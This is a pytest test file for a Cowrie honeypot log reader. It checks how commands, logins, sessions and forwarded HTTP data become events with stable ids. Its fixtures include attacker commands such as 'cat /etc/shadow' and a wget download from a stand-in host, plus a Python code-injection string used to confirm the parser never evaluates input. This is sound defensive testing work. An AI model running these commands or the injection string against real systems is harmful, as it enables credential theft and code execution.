"""Cowrie's log: what becomes an event, what its session tells, and ids that stay."""

import json
import random
from pathlib import Path
from typing import Any

import pytest

from ttpc_runtime.readers import Reading
from ttpc_runtime.readers.cowrie import FOLDS, TELLS, CowrieReader
from ttpc_runtime.readers.forwarded import MAX_DATA, http_request
from ttpc_runtime.readers.ids import ATTACKER_FROM_SOURCE_ADDRESS, attacker_from_address, joined
from ttpc_runtime.readers.session import MAX_ITEMS, MAX_TEXT, Sessions

EXAMPLE = Path(__file__).parents[2] / "examples" / "cowrie.json"

Row = dict[str, Any]
Event = dict[str, Any]


def row(eventid: str, second: int = 0, *, session: str = "0123456789ab", **fields: Any) -> Row:
    return {
        "eventid": f"cowrie.{eventid}",
        "session": session,
        "sensor": "gateway-01",
        "src_ip": "192.0.2.7",
        "timestamp": f"2026-03-14T10:00:{second:02}.000001Z",
        **fields,
    }


def connect(second: int = 0, **fields: Any) -> Row:
    return row("session.connect", second, **{"protocol": "ssh", "dst_port": 22, **fields})


def run(*rows: Row, reader: CowrieReader | None = None) -> tuple[list[Event], Reading]:
    """Events of some rows, those that the end of the input gives included."""
    reading = Reading([], format="cowrie")
    reading._readers["cowrie"] = reader = reader or CowrieReader()
    events = [
        event
        for number, each in enumerate(rows)
        for event in reading._take(reader, "log", number, each)
    ]
    events.extend(reading.finish())
    assert reading.counts.unaccounted == 0
    return events, reading


def one(kind: str, *rows: Row) -> Event:
    found = [event for event in run(*rows)[0] if event["source_kind"] == kind]
    assert len(found) == 1
    return found[0]


# ── what becomes an event ──────────────────────────────────────────────────────────────────────────────────


def test_a_command() -> None:
    event = one(
        "command",
        connect(),
        row("login.success", 1, username="root", password="x"),
        row("command.input", 2, input="cat /etc/shadow"),
    )
    assert event == {
        "source_kind": "command",
        "source_id": "gateway-01/0123456789ab/2026-03-14T10:00:02.000001Z/command.input",
        "attacker_uuid": attacker_from_address("192.0.2.7"),
        "identity_uuid": None,
        "session_id": "0123456789ab",
        "decky_id": "gateway-01",
        "timestamp": "2026-03-14T10:00:02.000001Z",
        "payload": {"command_text": "cat /etc/shadow", "user": "root", "src": "192.0.2.7"},
    }


def test_the_outcome_of_a_command_is_not_a_second_event() -> None:
    events, reading = run(
        row("command.input", 1, input="enable; id"),
        row("command.failed", 1, input="enable"),
        row("command.success", 1, input="id"),
    )
    assert [event["source_kind"] for event in events] == ["command", "session"]
    assert reading.counts.skipped.total() == 2


@pytest.mark.parametrize(("name", "result"), [("failed", "failed"), ("success", "success")])
def test_a_login(name: str, result: str) -> None:
    event = one(
        "auth_attempt",
        connect(protocol="telnet"),
        row(f"login.{name}", 1, username="admin", password="admin"),
    )
    assert event["payload"] == {
        "username": "admin",
        "password": "admin",
        "result": result,
        "service": "telnet",
        "src": "192.0.2.7",
    }


def test_a_login_without_a_beginning_knows_no_service() -> None:
    event = one("auth_attempt", row("login.failed", username="", password=None))
    assert event["payload"] == {"username": "", "result": "failed", "src": "192.0.2.7"}


def test_a_damaged_literal_is_taken_for_the_data_itself() -> None:
    assert http_request("b'\ufffd'") is None
    request = http_request("GET /\ufffd HTTP/1.0")
    assert request is not None
    assert request["raw_url"] == "/\ufffd"


def test_a_forwarded_http_request() -> None:
    data = repr(b"GET /a?b HTTP/1.1\r\nHost: example.com\r\nUser-Agent: x\r\n\r\nbody")
    event = one(
        "http_request",
        row("direct-tcpip.request", dst_ip="198.51.100.9", dst_port=80),
        row("direct-tcpip.data", 1, dst_ip="198.51.100.9", dst_port=80, data=data),
    )
    assert event["payload"] == {
        "method": "GET",
        "raw_url": "/a?b",
        "user_agent": "x",
        "host": "example.com",
        "headers": {"Host": "example.com", "User-Agent": "x"},
        "body": "body",
        "dst_ip": "198.51.100.9",
        "dst_port": 80,
        "src": "192.0.2.7",
    }


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ("b'\\x16\\x03\\x01'", "not an HTTP request"),
        ("", "not an HTTP request"),
        ("b'GET / HTTP/1.0" + "x" * MAX_DATA, "too long to parse"),
    ],
)
def test_other_forwarded_data_is_skipped(data: str, reason: str) -> None:
    _, reading = run(row("direct-tcpip.data", data=data))
    assert reading.counts.skipped == {f"cowrie.direct-tcpip.data ({reason})": 1}


def test_a_session() -> None:
    events, reading = run(
        connect(),
        row("client.version", 1, version="SSH-2.0-Go"),
        row("client.kex", 1, hassh="00" * 16),
        row("client.var", 1, name="LANG", value="C"),
        row("client.size", 1, width=80, height=24),
        row("client.fingerprint", 1, username="root", fingerprint="aa:bb"),
        row("login.failed", 2, username="root", password="one"),
        row("login.failed", 3, username="root", password="two"),
        row("login.success", 4, username="root", password="three"),
        row("session.params", 5, arch="linux-x64-lsb"),
        row("command.input", 6, input="id"),
        row("command.input", 7, input="wget http://203.0.113.80/x"),
        row("session.file_download", 8, url="http://203.0.113.80/x", shasum="ff", destfile=""),
        row("session.file_download.failed", 8, url="http://203.0.113.80/y"),
        row("session.file_upload", 8, filename="tool", shasum="ee"),
        row("direct-tcpip.request", 8, dst_ip="198.51.100.9", dst_port=25),
        row("direct-tcpip.request", 8, dst_ip="198.51.100.9", dst_port=25),
        row("session.closed", 9, duration=9.5),
    )
    event = events[-1]
    assert event["source_id"] == "gateway-01/0123456789ab/session"
    assert event["timestamp"] == "2026-03-14T10:00:09.000001Z"
    assert event["payload"] == {
        "src": "192.0.2.7",
        "service": "ssh",
        "started_at": "2026-03-14T10:00:00.000001Z",
        "ended_at": "2026-03-14T10:00:09.000001Z",
        "duration_s": 9.5,
        "end": "closed",
        "dst_port": 22,
        "client_version": "SSH-2.0-Go",
        "hassh": "00" * 16,
        "terminal": "80x24",
        "arch": "linux-x64-lsb",
        "username": "root",
        "usernames": ["root"],
        "logins_failed": 2,
        "logins_succeeded": 1,
        "op_text": "id\nwget http://203.0.113.80/x",
        "commands": ["id", "wget http://203.0.113.80/x"],
        "downloads": [
            {"url": "http://203.0.113.80/x", "shasum": "ff"},
            {"url": "http://203.0.113.80/y", "failed": True},
        ],
        "uploads": [{"shasum": "ee", "destfile": "tool"}],
        "forwards": ["198.51.100.9:25"],
        "environment": ["LANG=C"],
        "public_keys": ["aa:bb"],
    }
    assert reading.counts.derived == 0
    assert reading.counts.folded.total() == 12
    assert "three" not in json.dumps(event)


def test_sessions_left_open_come_at_the_end_in_the_order_of_their_first_line() -> None:
    events, reading = run(
        connect(0, session="b"),
        connect(1, session="a"),
        row("command.input", 2, session="b", input="id"),
    )
    assert [(event["source_kind"], event["session_id"]) for event in events] == [
        ("command", "b"),
        ("session", "b"),
        ("session", "a"),
    ]
    assert events[1]["payload"]["end"] == "still open"
    assert reading.counts.derived == 2


def test_a_session_without_its_beginning() -> None:
    event = one("session", row("session.closed", duration="3.25"))
    assert event["payload"]["duration_s"] == 3.25
    assert event["payload"]["logins_failed"] == 0


@pytest.mark.parametrize("duration", [None, "soon", True, -1, [], 1e300])
def test_a_duration_that_is_none(duration: object) -> None:
    event = one("session", row("session.closed", duration=duration))
    assert "duration_s" not in event["payload"]


# ── lines that are not as they should be ───────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        (row("command.input"), "Cowrie: no `input`"),
        (row("command.input", input=7), "Cowrie: `input` is not a string"),
        ({**row("command.input", input="id"), "session": 7}, "Cowrie: `session` is not a string"),
        (row("command.input", input="id", session=""), "Cowrie: no `session`"),
        (row("command.input", input="id", sensor=[]), "Cowrie: `sensor` is not a string"),
        (row("command.input", input="id", timestamp=1), "Cowrie: `timestamp` is not a string"),
        (row("command.input", input="id", src_ip={}), "Cowrie: `src_ip` is not a string"),
        (row("command.input", input="id", session="x" * 300), "Cowrie: `session` is too long"),
        (row("login.failed", username=5), "Cowrie: `username` is not a string"),
        (row("direct-tcpip.data"), "Cowrie: no `data`"),
        (row("client.kex", hassh=1), "Cowrie: `hassh` is not a string"),
        ({"eventid": "other.thing"}, "Cowrie: `eventid` of something else"),
        ({"eventid": None}, "Cowrie: no `eventid`"),
        ({}, "Cowrie: no `eventid`"),
        (row("log.closed"), "cowrie.log.closed (no event)"),
        (row("some.thing.new"), "cowrie.some.thing.new (no event)"),
    ],
)
def test_lines_that_give_no_event(bad: Row, reason: str) -> None:
    _, reading = run(bad)
    assert reading.counts.skipped == {reason: 1}


VALUES: list[Any] = [None, "", "x", "\ud800", 0, -1, 2**80, 1.5, True, [], ["x"], {}, {"a": "b"}]


def test_no_field_of_any_type_crashes_the_reader() -> None:
    chance = random.Random(2)
    fields = [
        *("session", "sensor", "src_ip", "timestamp", "protocol", "input", "username", "password"),
        *("data", "dst_ip", "dst_port", "duration", "version", "hassh", "width", "height", "arch"),
        *("name", "value", "fingerprint", "url", "shasum", "destfile", "filename"),
    ]
    rows = []
    for _ in range(4000):
        eventid = chance.choice([*TELLS, *FOLDS])
        odd = {name: chance.choice(VALUES) for name in chance.sample(fields, 4)}
        rows.append({**row("x"), **odd, "eventid": eventid})
    events, _ = run(*rows)
    assert all(json.dumps(event, allow_nan=False) for event in events)


# ── ids ────────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_namespace_of_attackers_is_the_documented_one() -> None:
    import uuid

    name = "ttpc: attacker from source address"
    assert uuid.uuid5(uuid.NAMESPACE_URL, name) == ATTACKER_FROM_SOURCE_ADDRESS


@pytest.mark.parametrize(
    "address", ["192.0.2.7", "::ffff:192.0.2.7", "::FFFF:c000:207", "0:0:0:0:0:ffff:192.0.2.7"]
)
def test_an_address_is_one_attacker_however_it_is_spelt(address: str) -> None:
    assert attacker_from_address(address) == "7ebfddce-8b8f-5497-8bf0-636fe3a68db3"


def test_other_addresses_and_names_are_other_attackers() -> None:
    names = ["192.0.2.7", "192.0.2.8", "2001:db8::1", "host.example.com", "", "\ud800"]
    assert len({attacker_from_address(name) for name in names}) == len(names)


def test_ids_have_no_bar_and_parts_cannot_run_together() -> None:
    assert joined("a|b", "c/d", "e%f") == "a%7Cb/c%2Fd/e%25f"
    assert joined("a/b", "c") != joined("a", "b/c")


def ids(*rows: Row, reader: CowrieReader | None = None) -> list[tuple[str, str]]:
    events, _ = run(*rows, reader=reader)
    return [(event["source_kind"], event["source_id"]) for event in events]


def example() -> list[Row]:
    return [json.loads(line) for line in EXAMPLE.read_text().splitlines()]


def test_a_second_run_gives_the_same_ids_and_no_two_events_the_same() -> None:
    first = ids(*example())
    assert first == ids(*example())
    assert len(set(first)) == len(first)


@pytest.mark.parametrize("at", [1, 40, 97, 150])
def test_ids_do_not_depend_on_where_the_log_was_rotated(at: int) -> None:
    rows = example()
    parts = ids(*rows[:at]) + ids(*rows[at:])
    assert set(parts) == set(ids(*rows))


def test_lines_of_one_instant_get_different_ids() -> None:
    same = [row("login.failed", username=f"user{n}") for n in range(3)]
    other = row("command.input", input="id")
    found = ids(same[0], other, same[1], same[2])
    assert len(set(found)) == 5  # with the session


def test_lines_without_a_timestamp_are_numbered() -> None:
    rows = [row("command.input", input=text, timestamp=None) for text in ("a", "b")]
    assert [name for _, name in ids(*rows)][:2] == [
        "gateway-01/0123456789ab/-/command.input",
        "gateway-01/0123456789ab/-/command.input/1",
    ]


def test_two_sensors_may_use_one_session_id() -> None:
    found = ids(row("command.input", input="a"), row("command.input", input="a", sensor="other"))
    assert len(set(found)) == 4


# ── bounds ─────────────────────────────────────────────────────────────────────────────────────────────────


def test_the_oldest_session_is_told_early_when_too_many_are_open() -> None:
    reader = CowrieReader(Sessions(max_open=2))
    events, reading = run(*(connect(n, session=f"s{n}") for n in range(5)), reader=reader)
    assert [event["session_id"] for event in events] == ["s0", "s1", "s2", "s3", "s4"]
    assert reading.counts.derived == 5


def test_text_held_for_open_sessions_is_bounded() -> None:
    sessions = Sessions(max_held=1_000_000)
    reader, most = CowrieReader(sessions), 0
    reading = Reading([], format="cowrie")
    for n in range(3000):
        line = row("command.input", session=f"s{n % 300}", input="x" * 100_000)
        list(reading._take(reader, "log", n, line))
        most = max(most, sessions.held)
    assert most <= 1_000_000
    list(reader.finish())
    assert sessions.held == 0


def test_lists_of_a_session_are_bounded_and_say_so() -> None:
    rows = [row("command.input", input="y" * 9000) for _ in range(MAX_ITEMS + 7)]
    events, _ = run(*rows, row("session.closed"))
    payload = events[-1]["payload"]
    assert len(payload["commands"]) == MAX_ITEMS
    assert len(payload["commands"][0]) == MAX_TEXT
    assert payload["not_listed"] == {"commands": 7}
    assert len(events[0]["payload"]["command_text"]) == 9000


# ── HTTP in the text of a literal ──────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "data",
    [
        repr(b"GET / HTTP/1.0\r\nHost: example.com\r\n\r\n"),
        repr("GET / HTTP/1.0\r\nHost: example.com\r\n\r\n"),
        "GET / HTTP/1.0\r\nHost: example.com\r\n\r\n",
        "b'GET / HTTP/1.0\\nHost: example.com\\n\\n'",
        "b'GET / HTTP/1.0\\r\\nHost: example.com'",
    ],
)
def test_old_new_and_raw_literals(data: str) -> None:
    assert http_request(data) == {
        "method": "GET",
        "raw_url": "/",
        "host": "example.com",
        "headers": {"Host": "example.com"},
    }


def test_bytes_of_a_request() -> None:
    request = b"POST http://example.com/\xc3\xa9?a b HTTP/1.1\r\nX: 1\r\nx: 2\r\nbad\r\n\r\n\xff\r\n\r\n'\"\\"
    found = http_request(repr(request))
    assert found == {
        "method": "POST",
        "raw_url": "http://example.com/é?a b",
        "headers": {"X": "1, 2"},
        "body": "\\xff\r\n\r\n'\"\\",
    }


@pytest.mark.parametrize(
    "data",
    [
        "b'GET / HTTP/1.0' + exit()",
        "__import__('os').system('id')",
        "('GET / HTTP/1.0',)",
        "b'GET / HTTP/1.0' b''",
        "f'GET / HTTP/1.0'",
        "b'\\d GET / HTTP/1.0'",
        "b'GET /",
        "'" * 9,
        "GET",
        "GET /",
        "GETTING SOMEWHERE",
    ],
)
def test_what_is_no_request(data: str) -> None:
    assert http_request(data) is None


@pytest.mark.parametrize(
    "text",
    [
        "'" + "\\x41" * 60_000,
        "A" * 250_000,
        "GET " + " x" * 120_000,
        "GET /" + " " * 250_000,
        "GET / HTTP/1.0\n" + "a:b\n" * 60_000,
        "GET / HTTP/1.0\n" + "\r" * 250_000,
    ],
)
def test_hostile_data_takes_no_time(text: str) -> None:
    import time

    start = time.perf_counter()
    http_request(text)
    assert time.perf_counter() - start < 1


# ── the documentation ──────────────────────────────────────────────────────────────────────────────────────


def test_the_documentation_names_every_line_and_field() -> None:
    text = (EXAMPLE.parents[1] / "docs" / "tag.md").read_text()
    assert str(ATTACKER_FROM_SOURCE_ADDRESS) in text
    for eventid in (*TELLS, *FOLDS):
        assert f"`{eventid}`" in text or f"`{eventid.removeprefix('cowrie.')}`" in text
    events, _ = run(*example())
    for event in events:
        for name in event["payload"]:
            assert f"`{name}`" in text
    assert events[-1]["payload"]["end"] == "still open"
    assert any(event["source_id"] in text for event in events)
